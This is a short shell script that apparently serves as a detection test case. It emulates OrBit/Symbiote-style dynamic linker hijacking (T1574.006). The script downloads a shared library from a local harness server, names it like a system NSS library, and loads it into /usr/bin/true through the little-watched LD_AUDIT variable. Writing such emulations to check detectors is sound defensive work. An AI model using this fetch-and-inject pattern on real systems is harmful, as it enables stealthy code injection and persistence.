#!/bin/sh
# technique: T1574.006 Hijack Execution Flow: Dynamic Linker Hijacking
# reproduces: OrBit/Symbiote-style dynamic linker hijacking (Intezer, 2022) through LD_AUDIT, the loader variable fewer tools watch: an rtld-audit module is loaded before any other library
# expect: loader-preload-injection ^true$
# exec-borne: yes
#
# The audit library is downloaded like any build dependency and named
# like a system library.
set -u

libdir="${BW_ATTACK_TMP:?}/.local/lib"
mkdir -p "$libdir"
trap 'rm -rf "${BW_ATTACK_TMP:?}/.local"' EXIT

curl -fsS --connect-timeout 5 -o "$libdir/libnss_cache.so.2" \
	"http://127.0.0.1:${BW_ATTACK_PORT:?}/libnss_cache.so" || exit 1

export LD_AUDIT="$libdir/libnss_cache.so.2"
/usr/bin/true
status=$?
unset LD_AUDIT
exit "$status"
